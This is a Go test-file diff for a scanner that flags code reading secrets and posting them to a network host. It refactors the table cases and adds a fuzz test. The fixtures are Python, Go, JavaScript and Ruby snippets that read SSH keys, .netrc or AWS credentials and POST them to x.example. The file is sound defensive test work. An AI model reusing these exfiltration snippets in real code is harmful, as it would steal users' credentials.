@@ -29,12 +29,13 @@ func shownOf(list []Beside) string {
 	return strings.Join(all, "; ")
 }
 
-func TestFind(t *testing.T) {
-	t.Parallel()
-	for name, c := range map[string]struct {
-		texts []Text
-		want  string
-	}{
+type findCase struct {
+	texts []Text
+	want  string
+}
+
+func findCases() map[string]findCase {
+	return map[string]findCase{
 		"through a queue":           {[]Text{text("a.py", "import queue, requests\nq = queue.Queue()\ndef work():\n    requests.post('https://x.example/', data=q.get())\nq.put(open('/home/me/.ssh/id_rsa').read())\n")}, "key:5 x.example:4 body"},
 		"through a channel":         {[]Text{text("a.go", "package a\nvar c = make(chan []byte)\nfunc work() {\n\tfor b := range c {\n\t\thttp.Post(\"https://x.example/\", \"\", bytes.NewReader(b))\n\t}\n}\nfunc main() {\n\tb, _ := os.ReadFile(home + \"/.netrc\")\n\tc <- b\n}\n")}, "login:9 x.example:5 body"},
 		"through an object":         {[]Text{text("box.js", "class Box {\n  put(x) {\n    this.kept = x;\n  }\n  send() {\n    return fetch('https://x.example/', { method: 'POST', body: this.kept });\n  }\n}\nmodule.exports = Box;\n"), text("a.js", "const Box = require('./box');\nconst box = new Box();\nbox.put(fs.readFileSync(home + '/.aws/credentials'));\nbox.send();\n")}, "login:3 x.example:6 body"},
@@ -53,7 +54,12 @@ func TestFind(t *testing.T) {
 		"half of a key":             {[]Text{text("a.py", "import requests\nkey = open('/home/me/.ssh/id_rsa.pub').read()\nrequests.post('https://x.example/', data=key)\n")}, ""},
 		"what a comment says":       {[]Text{text("a.rb", "# reads ~/.ssh/id_rsa\nkept = File.read('a.txt')\nNet::HTTP.post(URI('https://x.example/'), kept)\n")}, ""},
 		"programs by themselves":    {[]Text{text("a.py", "key = open('/home/me/.ssh/id_rsa').read()\n"), text("b.py", "import requests\nrequests.post('https://x.example/', data=words)\n")}, ""},
-	} {
+	}
+}
+
+func TestFind(t *testing.T) {
+	t.Parallel()
+	for name, c := range findCases() {
 		t.Run(name, func(t *testing.T) {
 			t.Parallel()
 			got := shownOf(Find(c.texts, nil, func(file, why string) { t.Errorf("%s: %s", file, why) }))
@@ -62,6 +68,34 @@ func TestFind(t *testing.T) {
 			}
 		})
 	}
+}
+
+// FuzzFind: whatever a program is, what is found lies in it, and is found again.
+func FuzzFind(f *testing.F) {
+	for _, c := range findCases() {
+		for _, one := range c.texts {
+			f.Add(one.Family, one.Source)
+		}
+	}
+	f.Fuzz(func(t *testing.T, family string, source []byte) {
+		if Family(family) == "" || len(source) > 4<<10 {
+			return
+		}
+		find := func() []Beside {
+			return Find([]Text{{chain.Text{File: "a", Source: source, Start: document.Position{Line: 1, Column: 1}}, Family(family)}}, nil, func(string, string) {})
+		}
+		found := find()
+		for _, one := range found {
+			for _, at := range []document.Span{one.Read.Span, one.Send.Span} {
+				if at.Start.Offset < 0 || at.End.Offset > len(source) || at.Start.Offset > at.End.Offset {
+					t.Errorf("a place from %d to %d of %d bytes", at.Start.Offset, at.End.Offset, len(source))
+				}
+			}
+		}
+		if again := find(); shownOf(again) != shownOf(found) {
+			t.Errorf("found %q, and then %q", shownOf(found), shownOf(again))
+		}
+	})
 }
 
 // TestHook: an address with the account of whoever reads what is sent there.
